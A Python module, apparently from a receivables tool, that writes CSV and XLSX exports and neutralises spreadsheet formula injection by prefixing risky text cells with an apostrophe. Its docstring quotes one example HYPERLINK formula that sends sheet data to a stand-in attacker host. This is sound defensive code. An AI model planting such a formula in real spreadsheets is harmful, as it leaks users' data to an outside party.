"""Every CSV Recoup writes, through one writer that keeps a spreadsheet from running outside text as a formula.

Names, references and descriptions come from customers, payers (a remittance's reference is whatever the
payer wrote) and the ERP feed. A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, CR or LF, which
some spreadsheets skip before reading one) is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil.example/?"&A1,"…")`` sends the sheet's data away when clicked. Text cells that
start so get a leading apostrophe (OWASP's advice; the spreadsheet shows the text as written). Numbers,
dates and money are written from their own types, so a negative balance stays a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from datetime import date
from decimal import Decimal

Cell = str | Decimal | int | date | None

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def text_cell(value: str) -> str:
    """``value`` as a cell no spreadsheet runs."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def _cell(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return text_cell(value)
    if isinstance(value, bool):
        raise TypeError("a CSV cell is text, a number or a date")
    if isinstance(value, Decimal | int):
        return str(value)
    return value.isoformat()


def csv_text(rows: Iterable[Iterable[Cell]]) -> str:
    """The rows as CSV: text neutralised, numbers and dates as themselves."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([_cell(value) for value in row])
    return out.getvalue()


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable[Iterable[Cell]]]]) -> bytes:
    """A workbook with one sheet per (title, rows), written by openpyxl: text neutralised as in the CSV, numbers
    and dates as themselves (money keeps its two decimals' display)."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    for title, rows in sheets:
        sheet = book.create_sheet(title[:31])
        for row in rows:
            sheet.append([_xlsx_cell(value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xlsx_cell(value: Cell) -> object:
    if isinstance(value, str):
        return text_cell(value)
    if isinstance(value, bool):
        raise TypeError("a cell is text, a number or a date")
    return value
